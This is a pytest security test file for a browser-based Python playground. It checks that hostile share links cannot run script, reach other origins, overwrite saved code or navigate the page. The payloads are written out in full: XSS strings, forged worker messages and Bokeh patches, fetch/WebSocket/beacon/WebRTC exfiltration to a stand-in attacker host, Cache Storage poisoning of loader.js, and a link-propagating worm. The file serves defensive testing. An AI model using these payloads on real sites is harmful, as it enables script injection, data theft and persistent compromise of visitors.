"""Hostile share links (issue 29): a link's code is a stranger's code, run in every visitor's
browser on gradpad's origin. Each test opens a link whose code attacks the page through one
channel and asserts what must hold whatever the code does:
  - no script runs on the page (the payloads set window.__pwned; it stays unset),
  - nothing reaches another origin (a second local server, the "attacker", counts every TCP
    connection: it stays at zero),
  - the visitor's saved code (localStorage "gradpad.code") is unchanged,
  - the page stays on gradpad (no navigation, no popup).
The links are opened in one page (a pasted link: hashchange) where the vector allows; the Cache
Storage attack ends with a browser restart on the same profile and a clean visit to the bare URL.
Own browser (a persistent profile of its own): ~4 min on a loaded 2-core machine."""
from __future__ import annotations

import json
import shutil
import socketserver
import tempfile
import threading
import time
from dataclasses import dataclass

import pytest

from app import share

from . import chromium
from .conftest import READY_TIMEOUT_MS, UI_TIMEOUT_MS

OWN = "# my own work, typed last week\nimport jax\n\nf = lambda x: x * 3.0\njax.grad(f)(2.0)\n"


class Counter(socketserver.ThreadingTCPServer):
    """The attacker's server: counts every connection (HTTP, a TURN allocation, anything)."""
    daemon_threads = True
    allow_reuse_address = True
    hits = 0
    seen: list

    def verify_request(self, request, client_address):
        self.hits += 1
        return True


class CounterHandler(socketserver.BaseRequestHandler):
    def handle(self):
        try:
            data = self.request.recv(4096)
            self.server.seen.append(data[:120])
            self.request.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\nAccess-Control-Allow-Origin: *\r\n\r\nok")
        except OSError:
            pass


@dataclass
class Hostile:
    pw: object
    ctx: object
    page: object
    udd: str
    url: str
    attacker: Counter
    att: str  # the attacker's origin, e.g. http://127.0.0.1:40123

    def open_link(self, code: str, tag: str, timeout_s: float = 120):
        """Paste a share link holding `code`; wait until the app shows it and the payload is done
        (it sets builtins._hostile = tag when its asynchronous part ends)."""
        link = share.state_hash(share.ShareState(code=code))
        self.page.evaluate("h => { location.hash = h }", link)
        deadline = time.monotonic() + timeout_s
        while True:
            done = self.page.evaluate(
                "() => window.gradpad.runPythonAsync(\"import builtins\\ngetattr(builtins, '_hostile', '')\")")
            if done == tag:
                break
            if time.monotonic() > deadline:
                err = self.page.evaluate("() => window.gradpad.snapshot().then(s => s.error)")
                pytest.fail(f"the payload {tag!r} never finished (last: {done!r}); the app shows {err}")
            time.sleep(0.5)
        self.page.wait_for_timeout(1500)  # what the page does with the worker's last messages

    def assert_clean(self, what: str):
        page = self.page
        assert page.evaluate("() => window.__pwned === undefined ? null : String(window.__pwned)") is None, what
        assert self.attacker.hits == 0, (what, self.attacker.seen)
        assert page.evaluate("() => localStorage.getItem('gradpad.code')") == OWN, what
        assert page.url.startswith(self.url), (what, page.url)
        assert len(self.ctx.pages) == 1, (what, [p.url for p in self.ctx.pages])


def start_attacker() -> tuple[Counter, str]:
    srv = Counter(("127.0.0.1", 0), CounterHandler)
    srv.seen = []
    threading.Thread(target=srv.serve_forever, daemon=True, name="attacker").start()
    return srv, f"http://127.0.0.1:{srv.server_address[1]}"


def visit(page, url: str) -> None:
    page.goto(url, wait_until="domcontentloaded", timeout=60_000)
    page.set_default_timeout(UI_TIMEOUT_MS)
    ui = page.evaluate("() => window.gradpad.uiReady.then(g => g.ui, e => 'ERROR: ' + String(e && e.stack || e))")
    assert ui == "app", ui


def editor_code(page) -> str:
    return page.evaluate("() => window.gradpad.snapshot().then(s => s.code)")


@pytest.fixture(scope="module")
def hostile(site_url, playwright_instance):
    # a browser of its own (its profile is restarted): launched from the session's Playwright
    pw = playwright_instance
    attacker, att = start_attacker()
    udd = tempfile.mkdtemp(prefix="gradpad-hostile-")
    ctx, _ = chromium.launch(pw, udd)
    chromium.guard_network(ctx, [])  # nothing leaves 127.0.0.1 (the attacker listens there)
    page = ctx.pages[0] if ctx.pages else ctx.new_page()
    page.set_viewport_size({"width": 1400, "height": 900})
    page.set_default_timeout(READY_TIMEOUT_MS)
    # an earlier visit: the site's service worker installed (as the page's loader registers it), the
    # visitor's own work saved; from a file of the site that boots no Python (a whole first visit
    # cost this module's set-up ~10 s more, and nothing here tests it)
    page.goto(site_url + "favicon.svg", wait_until="domcontentloaded", timeout=60_000)
    page.evaluate("() => navigator.serviceWorker.register('sw.js').then(() => navigator.serviceWorker.ready).then(() => null)")
    page.evaluate("code => localStorage.setItem('gradpad.code', code)", OWN)
    visit(page, site_url)
    assert page.evaluate("() => !!navigator.serviceWorker.controller")
    assert editor_code(page) == OWN
    h = Hostile(pw=pw, ctx=ctx, page=page, udd=udd, url=site_url, attacker=attacker, att=att)
    try:
        yield h
    finally:
        h.ctx.close()
        attacker.shutdown()
        shutil.rmtree(udd, ignore_errors=True)


FORGED_RESOURCES = """
import builtins, js
from pyodide.ffi import to_js
obj = lambda d: to_js(d, dict_converter=js.Object.fromEntries)
blob = js.URL.createObjectURL(js.Blob.new(to_js(["window.__pwned = 'load-resources blob'"]), obj({"type": "text/javascript"})))
for i, (name, args) in enumerate([
        ("load-resources", {"js": [blob], "css": [], "modules": [blob]}),
        ("load-resources", {"js": ["evil.js", "ATT/x.js"], "css": ["ATT/x.css"], "modules": ["ATT/m.js"]}),
        ("constructor", {}), ("__proto__", {})]):
    js.postMessage(obj({"type": "request", "id": 9000 + i, "name": name, "args": args}))
builtins._hostile = "resources"
"""


def test_forged_load_resources_requests_load_nothing(hostile):
    hostile.open_link(FORGED_RESOURCES.replace("ATT", hostile.att), "resources")
    hostile.assert_clean("load-resources")


FORGED_PATCHES = """
import builtins, js
from pyodide.ffi import to_js
import panel as pn
from app import bootstrap, page_api
obj = lambda d: to_js(d, dict_converter=js.Object.fromEntries)
doc = bootstrap._doc
root = doc.roots[0]
loc = next(m for m in doc.models if type(m).__name__ == "Location")
evil_html = {"type": "object", "name": "panel.models.reactive_html.ReactiveHTML", "id": "evil-rh",
             "attributes": {"html": "<img src=x onerror=\\"window.__pwned='rh'\\">",
                            "scripts": {"render": ["window.__pwned = 'reactivehtml'"]}}}
evil_js = {"type": "object", "name": "CustomJS", "id": "evil-js", "attributes": {"args": {}, "code": "window.__pwned = 'customjs'"}}
patches = [
    {"events": [{"kind": "RootAdded", "model": evil_html}]},
    {"events": [{"kind": "ModelChanged", "model": {"id": root.id}, "attr": "js_property_callbacks",
                 "new": {"type": "map", "entries": [["change:visible", [evil_js]]]}}]},
    {"events": [{"kind": "ModelChanged", "model": {"id": loc.id}, "attr": "pathname", "new": "//127.0.0.1:PORT/forged"}]},
    {"events": [{"kind": "ModelChanged", "model": {"id": loc.id}, "attr": "reload", "new": True}]},
    {"events": [{"kind": "RootAdded", "model": {"type": "object", "name": "panel.models.location.Location", "id": "evil-loc",
                 "attributes": {"pathname": "//127.0.0.1:PORT/new-location", "reload": True}}}]},
]
for p in patches:
    js.postMessage(obj({"type": "patch", "patch": p}))
# the same through the app's own document: the Location model's fields, navigation without script
loc.search = "?code=stolen"
loc.pathname = "//127.0.0.1:PORT/path"
loc.reload = True
# a CustomJS callback on the app's Run button (a ReactiveHTML component cannot even be built in
# the worker: Panel needs nh3, which the site does not ship; the forged RootAdded above is one)
pg = page_api._playground
pg.run_button.js_on_click(code="window.__pwned = 'js_on_click'")
builtins._hostile = "patches"
"""


def test_forged_patches_with_reactive_html_custom_js_and_location_models(hostile):
    hostile.open_link(FORGED_PATCHES.replace("PORT", hostile.att.rsplit(":", 1)[1]), "patches")
    page = hostile.page
    page.get_by_role("button", name="▶ Run").click()  # the refused js_on_click would run here
    page.wait_for_timeout(1500)
    hostile.assert_clean("patches")


HTML_PAYLOAD = ("<b id='gp-bold'>bold survives</b>"
                "<img src=x onerror=\"window.__pwned='onerror'\">"
                "<svg onload=\"window.__pwned='svg onload'\"></svg>"
                "<script>window.__pwned='script'</script>"
                "<a id='gp-js-link' href=\"javascript:window.__pwned='javascript: url'\">js link</a>"
                "<a id='gp-off-link' href='ATT/leak?code=stolen' target='_blank'>off-site link</a>"
                "<iframe srcdoc=\"<script>parent.__pwned='srcdoc'</script>\"></iframe>"
                "<img src='ATT/img.png'>"
                "<style>@import url(ATT/x.css); .gp-x { background: url(ATT/bg.png) }</style><div class='gp-x'>x</div>"
                "<details open ontoggle=\"window.__pwned='ontoggle'\"><summary>s</summary></details>"
                "<form action='ATT/form'><button id='gp-form-btn'>send</button></form>")
MD_PAYLOAD = ("[md link](javascript:window.__pwned='md%20link')\n\n"
              "<img src=x onerror=\"window.__pwned='md img'\">\n\n![remote](ATT/md.png)\n")

HTML_PANES = """
import builtins
import panel as pn
from bokeh.models import Div, HoverTool
from bokeh.plotting import figure
from app import page_api
PAYLOAD = {payload!r}
MD = {md!r}
pg = page_api._playground
fig = figure(width=300, height=200, tools=[HoverTool(tooltips=PAYLOAD)])
fig.scatter([1, 2], [1, 2])
pg.tabs.append(("hostile", pn.Column(pn.pane.HTML(PAYLOAD), pn.pane.Markdown(MD), pn.pane.Bokeh(Div(text=PAYLOAD)),
                                      pn.pane.Bokeh(fig))))
pg.tabs.active = len(pg.tabs) - 1
pg.notice.object = PAYLOAD  # the app's own HTML pane, changed
pg.notice.visible = True
builtins._hostile = "html"
"""


def test_html_markdown_and_bokeh_payloads_render_without_script(hostile):
    page = hostile.page
    code = HTML_PANES.format(payload=HTML_PAYLOAD.replace("ATT", hostile.att), md=MD_PAYLOAD.replace("ATT", hostile.att))
    hostile.open_link(code, "html")
    page.wait_for_timeout(2000)
    # the harmless part is shown (sanitized, not dropped): in the notice and the hostile tab
    assert page.locator("#gp-bold").count() >= 1
    for sel in ["#gp-js-link", "#gp-off-link", "#gp-form-btn"]:
        if page.locator(sel).count():
            page.locator(sel).first.click(timeout=5000, force=True)
            page.wait_for_timeout(500)
    # hover the plot: its tooltip is the payload's HTML
    canvas = page.locator("canvas").last
    box = canvas.bounding_box()
    if box:
        for dx in (0.2, 0.5, 0.8):
            page.mouse.move(box["x"] + box["width"] * dx, box["y"] + box["height"] * (1 - dx))
            page.wait_for_timeout(200)
    page.wait_for_timeout(1000)
    hostile.assert_clean("html")


FORGED_MESSAGES = """
import builtins, js
from pyodide.ffi import to_js
from app import share
obj = lambda d: to_js(d, dict_converter=js.Object.fromEntries)
evil = share.state_hash(share.ShareState(code="# forged by the worker"))
for msg in [
    {"type": "env", "op": "storage_set", "key": "gradpad.code", "value": "# overwritten by a link"},
    {"type": "env", "op": "storage_set", "key": "gradpad.evil", "value": "x"},
    {"type": "env", "op": "constructor", "key": "x", "value": "y"},
    {"type": "render", "model": '{"doc": {"roots": []}}', "page": {"embed": True}},
    {"type": "constructor"}, {"type": "__proto__"},
]:
    js.postMessage(obj(msg))
js.gradpadPageEnv("storage_set", "gradpad.code", "# overwritten through the app's channel")
builtins._hostile = "messages"
"""


def test_worker_to_page_message_forgery_changes_nothing(hostile):
    hostile.open_link(FORGED_MESSAGES, "messages")
    assert hostile.page.evaluate("() => localStorage.getItem('gradpad.evil')") is None
    hostile.assert_clean("messages")


CHANNELS = """
import asyncio, builtins, js, json
from pyodide.ffi import to_js
obj = lambda d: to_js(d, dict_converter=js.Object.fromEntries)
ATT = "ATTORIGIN"
tried = {"RTCPeerConnection in the worker": hasattr(js, "RTCPeerConnection"),
         "top in the worker": hasattr(js, "top"), "open in the worker": hasattr(js, "open")}
async def go():
    async def attempt(name, coro):
        try:
            await coro
            tried[name] = "reached"
        except BaseException as e:
            tried[name] = type(e).__name__
    if tried["RTCPeerConnection in the worker"]:
        pc = js.RTCPeerConnection.new(obj({"iceServers": [{"urls": ["turn:127.0.0.1:PORT?transport=tcp"], "username": "stolen", "credential": "x"}]}))
        pc.createDataChannel("x")
        await pc.setLocalDescription(await pc.createOffer())
    await attempt("fetch", js.fetch(ATT + "/fetch", obj({"mode": "no-cors"})))
    try:
        xhr = js.XMLHttpRequest.new(); xhr.open("GET", ATT + "/xhr"); xhr.send()
    except BaseException as e:
        tried["xhr"] = type(e).__name__
    for name, make in [("websocket", lambda: js.WebSocket.new("ws://127.0.0.1:PORT/ws")),
                       ("eventsource", lambda: js.EventSource.new(ATT + "/es")),
                       ("worker", lambda: js.Worker.new(ATT + "/w.js")),
                       ("beacon", lambda: js.navigator.sendBeacon(ATT + "/beacon", "stolen")),
                       ("importScripts", lambda: js.importScripts(ATT + "/i.js"))]:
        try:
            make()
        except BaseException as e:
            tried[name] = type(e).__name__
    await attempt("import()", js.eval(f"import('{ATT}/m.js')"))
    await asyncio.sleep(2)
    builtins._hostile_channels = json.dumps(tried, default=str)
    builtins._hostile = "channels"
asyncio.ensure_future(go())
"""


def test_network_channels_and_webrtc_turn_reach_no_other_origin(hostile):
    port = hostile.att.rsplit(":", 1)[1]
    hostile.open_link(CHANNELS.replace("ATTORIGIN", hostile.att).replace("PORT", port), "channels")
    tried = json.loads(hostile.page.evaluate(
        "() => window.gradpad.runPythonAsync('import builtins\\nbuiltins._hostile_channels')"))
    print("\n[hostile] channels from the worker:", tried)
    # no RTCPeerConnection in a worker (Chromium), so no TURN request; the page runs no script
    assert tried["RTCPeerConnection in the worker"] is False
    assert tried["top in the worker"] is False and tried["open in the worker"] is False
    assert "reached" not in tried.values(), tried
    hostile.assert_clean("channels")


CACHE_POISON = """
import asyncio, builtins, js, json
from pyodide.ffi import to_js
from app import env
obj = lambda d: to_js(d, dict_converter=js.Object.fromEntries)
base = env.page_base()
async def go():
    manifest = json.loads(await (await js.fetch(base + "manifest.json")).text())
    wheel = base + manifest["files"][manifest["stages"]["numpy"][0]]["file"]
    headers = {"Content-Type": "text/javascript", "X-Gradpad-Integrity": manifest["files"][manifest["stages"]["numpy"][0]]["integrity"],
               "Cross-Origin-Embedder-Policy": "require-corp", "Cross-Origin-Opener-Policy": "same-origin",
               "Cross-Origin-Resource-Policy": "same-origin"}
    names = list(await js.caches.keys()) + ["gradpad-" + manifest["build"], "gpsnap-" + manifest["build"]]
    for name in names:
        cache = await js.caches.open(name)
        for path in ["loader.js", "guard.js", "worker.js", "vendor/purify.es.mjs"]:
            real = await (await js.fetch(base + path)).text()
            evil = "window.__pwned = 'cache: " + path + "'; fetch('ATT/cache');\\n" + real
            await cache.put(base + path, js.Response.new(evil, obj({"headers": headers})))
        await cache.put(wheel, js.Response.new("garbage, not a wheel", obj({"headers": headers})))
        await cache.put(base + "pyodide/boot-snapshot.bin", js.Response.new("garbage snapshot", obj({"headers": headers})))
        await cache.put(base + "pyodide/imports-snapshot.bin", js.Response.new("garbage snapshot", obj({"headers": headers})))
        await cache.put(base, js.Response.new("<script>window.__pwned='index'</script>", obj({"headers": {"Content-Type": "text/html"}})))
    builtins._hostile = "cache"
asyncio.ensure_future(go())
"""


# what the service worker answered since it started (static/sw.js: stats)
SW_STATS = """() => new Promise((res) => {
  const ch = new MessageChannel();
  ch.port1.onmessage = (e) => res(e.data);
  navigator.serviceWorker.controller.postMessage("stats", [ch.port2]);
})"""


def test_cache_storage_writes_change_nothing_after_a_browser_restart(hostile):
    page = hostile.page
    hostile.open_link(CACHE_POISON.replace("ATT", hostile.att), "cache")
    hostile.assert_clean("cache written")
    # the browser restarts on the same profile; the visitor opens the bare site
    hostile.ctx.close()
    hostile.ctx, _ = chromium.launch(hostile.pw, hostile.udd)
    chromium.guard_network(hostile.ctx, [])
    hostile.page = page = hostile.ctx.pages[0] if hostile.ctx.pages else hostile.ctx.new_page()
    page.set_viewport_size({"width": 1400, "height": 900})
    errors = []
    page.on("pageerror", lambda e: errors.append(str(e)))
    for i in range(2):  # the clean visit, and a reload of it
        visit(page, hostile.url)
        assert page.evaluate("() => !!navigator.serviceWorker.controller")
        # a return visit: the page itself asks for none of the runtime's big files (the worker does:
        # static/runtime_preload.js), the page request starts with the service worker (navigation
        # preload), and the second visit's loader.js is the checked Cache Storage copy itself
        assert page.evaluate("""() => performance.getEntriesByType('resource')
            .filter(e => /pyodide\\.asm\\.wasm|python_stdlib\\.zip/.test(e.name)).length""") == 0
        assert page.evaluate("() => navigator.serviceWorker.ready.then(r => r.navigationPreload.getState()).then(s => s.enabled)")
        served = page.evaluate(SW_STATS)
        if i == 1:
            assert served["byPath"]["loader.js"]["whole"] >= 1, served
        assert served["byPath"]["loader.js"]["rebuilt"] == 0, served
        # a clean visit runs the visitor's own code and nothing else
        assert editor_code(page) == OWN
        assert "__pwned" not in page.evaluate("() => fetch('loader.js').then(r => r.text())")
        hostile.assert_clean("after the restart")
    assert not [e for e in errors if "__pwned" in e], errors


WORM = """
import builtins, dataclasses
from app import share
original = share.encode_state
def encode_state(state):
    return original(dataclasses.replace(state, code=state.code + "\\n# WORM: every later link carries me\\n"))
share.encode_state = encode_state
builtins._hostile = "worm"
"""


def test_a_patched_encode_state_never_reaches_the_address_bar_or_the_saved_code(hostile):
    page = hostile.page
    hostile.open_link(WORM, "worm")
    # "Back to my code" is one click away, and the visitor's code is untouched
    back = page.get_by_role("button", name="Back to my code")
    assert back.is_visible()
    hostile.assert_clean("worm")
    back.click()
    deadline = time.monotonic() + 60
    while editor_code(page) != OWN:
        assert time.monotonic() < deadline, editor_code(page)[:200]
        time.sleep(0.3)
    # the visitor edits their code: the address bar and the saved code hold exactly the editor's text
    editor = page.locator(".ace_content").first
    editor.click()
    page.keyboard.press("Control+End")
    page.keyboard.type("\nmine = 1")
    page.wait_for_function("() => location.hash.startsWith('#s=')")
    deadline = time.monotonic() + 60
    while True:
        state = share.parse_hash(page.evaluate("() => location.hash"))
        if "mine = 1" in state.code:
            break
        assert time.monotonic() < deadline, state.code[-200:]
        time.sleep(0.3)
    assert "WORM" not in state.code, state.code
    assert state.code == editor_code(page)
    page.wait_for_function("() => (localStorage.getItem('gradpad.code') || '').includes('mine = 1')")
    saved = page.evaluate("() => localStorage.getItem('gradpad.code')")
    assert "WORM" not in saved and saved.startswith(OWN.rstrip("\n")), saved
    # the Share box shows the page's link, not the worm's
    share_box = page.evaluate("""() => { const out = [];
        const walk = (root) => { for (const el of root.querySelectorAll('*')) {
            if (el.tagName === 'INPUT' && (el.value || '').includes('#s=')) out.push(el.value);
            if (el.shadowRoot) walk(el.shadowRoot); } };
        walk(document); return out; }""")
    for link in share_box:
        assert "WORM" not in share.parse_hash(link.split("#", 1)[1]).code
